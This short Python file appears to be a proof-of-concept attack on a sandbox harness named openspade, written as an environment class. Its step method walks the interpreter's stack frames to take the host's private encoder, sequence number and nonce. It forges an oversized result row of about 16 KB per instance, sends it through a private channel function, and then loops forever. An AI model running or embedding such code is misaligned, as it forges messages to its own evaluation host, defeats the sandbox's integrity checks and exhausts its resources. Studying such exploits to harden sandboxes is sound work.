# integrity: one forged row carries the whole message's allowance, K * 16 KiB (the host has no limit per instance)
import dataclasses


class Env:
    def reset(self, seed=None):
        return "ready"

    def step(self, action):
        sys = dataclasses.sys
        f = sys._getframe()
        while "answers" not in f.f_locals:
            f = f.f_back
        k = len(sys._getframe(2).f_locals["indices"])
        big = "Z" * (16000 * k)
        body = f.f_locals["encode"]((([big] + [""] * (k - 1)), [0.0] * k, [0] * k, [], ""))
        sys.modules["openspade.sandbox.child.channel"]._send(f.f_locals["sequence"], f.f_locals["nonce"], body)
        while True:
            pass
